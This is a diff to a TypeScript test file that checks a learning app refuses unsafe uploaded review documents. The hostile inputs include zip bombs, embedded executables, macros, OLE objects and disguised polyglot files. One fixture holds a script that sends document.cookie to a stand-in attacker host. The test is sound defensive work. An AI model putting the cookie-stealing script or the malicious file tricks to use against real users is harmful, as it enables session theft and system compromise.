@@ -1,10 +1,13 @@
 import { and, eq } from 'drizzle-orm';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { challengeStepComponents, challengeSteps, groupMemberships, groups, organizations, pointsEvents, storedFiles, userChallenges, users } from '../../db/schema/index';
 import { learnerWithClearGoal, startFixtureServer, type FixtureCurriculum } from '../../testing/curriculum';
-import { minimalDocx } from '../../testing/docx';
+import { contentTypes, docxEntries, minimalDocx } from '../../testing/docx';
 import { failure, registerAndLogin, uniqueEmail } from '../../testing/helpers';
 import type { TestClient, TestServer } from '../../testing/test-server';
+import { fourGibibyteBomb, zipArchive } from '../../testing/zip';
 
 let server: TestServer;
 let fixture: FixtureCurriculum;
@@ -249,6 +252,68 @@ describe('the review document', () => {
     }
     expect(await db.select({ id: storedFiles.id }).from(storedFiles).where(eq(storedFiles.user_id, userId))).toEqual(before);
     expect(await server.app.mailer.messagesTo(adminEmail)).toEqual([]);
+  });
+
+  it('is refused, saying why, when it is not a Word document that is safe to pass on; nothing is stored or sent', async () => {
+    const learner = await learnerInGroup();
+    const { userId, adminEmail } = learner;
+    const db = server.database.db;
+    const before = await db.select({ id: storedFiles.id }).from(storedFiles).where(eq(storedFiles.user_id, userId));
+    const program = Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(60), Buffer.from('PE\x00\x00This program cannot be run in DOS mode.')]);
+    const page = Buffer.from('<html><body><script>fetch("https://evil.example/" + document.cookie)</script></body></html>');
+    const compoundFile = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
+    const withPart = (...parts: Parameters<typeof zipArchive>[0]) => zipArchive([...docxEntries(), ...parts]);
+    const notDocx = 'The review document must be a Word document (.docx).';
+    const cases: [string, Buffer, string][] = [
+      ['a 4 GiB zip bomb in 4 MiB', withPart(fourGibibyteBomb('word/media/image1.png')), 'The review document unpacks to more than 50 MB: make it smaller (fewer or smaller pictures) and send it again.'],
+      [
+        '10 MiB in 10 KiB',
+        withPart({ name: 'word/media/image1.png', content: Buffer.alloc(10 * 1024 * 1024), deflate: true }),
+        'The review document unpacks to more than 100 times its size, which no Word document does, so it cannot be sent.',
+      ],
+      ['a program and a page behind a ZIP signature and the two part names', Buffer.concat([Buffer.from('PK\x03\x04[Content_Types].xml word/document.xml'), program, page]), notDocx],
+      ['a program and a page with a document tucked behind them', zipArchive(docxEntries(), { prefix: Buffer.concat([program, page]) }), notDocx],
+      [
+        'a VBA project',
+        withPart({ name: 'word/vbaProject.bin', content: compoundFile }),
+        'The review document contains macros: save it as a Word Document (.docx), without macros, and send that.',
+      ],
+      ['an embedded .exe', withPart({ name: 'word/embeddings/setup.exe', content: program }), 'The review document contains a program: remove it and send the document again.'],
+      [
+        'an OLE object',
+        withPart({ name: 'word/embeddings/oleObject1.bin', content: compoundFile }),
+        'The review document contains embedded objects or controls (OLE, ActiveX): remove them and send the document again.',
+      ],
+      ['an encrypted part', withPart({ name: 'word/styles.xml', content: '<w:styles/>', encrypted: true }), 'The review document has encrypted parts: save it again without a password and send that.'],
+      [
+        '2,001 parts',
+        withPart(...Array.from({ length: 1_998 }, (_, index) => ({ name: `word/media/image${index}.png`, content: '' }))),
+        'The review document has more than 2,000 parts, which no Word document needs, so it cannot be sent.',
+      ],
+      ['no [Content_Types].xml', zipArchive(docxEntries('No types', { contentTypes: null })), notDocx],
+      ['a workbook’s main type', zipArchive(docxEntries('A sheet', { contentTypes: contentTypes({ '/word/document.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' }) })), notDocx],
+      [
+        'part names that differ in the local headers',
+        zipArchive(docxEntries().map((entry) => (entry.name === 'word/document.xml' ? { ...entry, localName: 'word/document.exe' } : entry))),
+        'The review document is damaged: open it in Word, save it again as a Word Document (.docx) and send that.',
+      ],
+    ];
+    for (const [what, document, message] of cases) {
+      const response = await sendForm(learner, { document, user_email: [adminEmail] });
+      expect(response.status, what).toBe(400);
+      expect(((await response.json()) as { error: { message: string } }).error.message, what).toBe(message);
+    }
+    expect(await db.select({ id: storedFiles.id }).from(storedFiles).where(eq(storedFiles.user_id, userId))).toEqual(before);
+    expect(await server.app.mailer.messagesTo(adminEmail)).toEqual([]);
+  });
+
+  it('passes as the learner app’s template of the challenge, the file a learner fills in', async () => {
+    const learner = await learnerInGroup();
+    const template = readFileSync(join(import.meta.dirname, '..', '..', '..', '..', 'learner', 'public', 'templates', 'comm-drill-bluf-rewrite.docx'));
+    const response = await sendForm(learner, { document: template, user_email: [learner.adminEmail] });
+    expect(response.status).toBe(200);
+    const [email] = await server.app.mailer.messagesTo(learner.adminEmail);
+    expect((await server.app.mailer.attachmentsOf(email!.id))[0]!.content).toEqual(template);
   });
 
   it('has no admins to offer to a learner in no group', async () => {
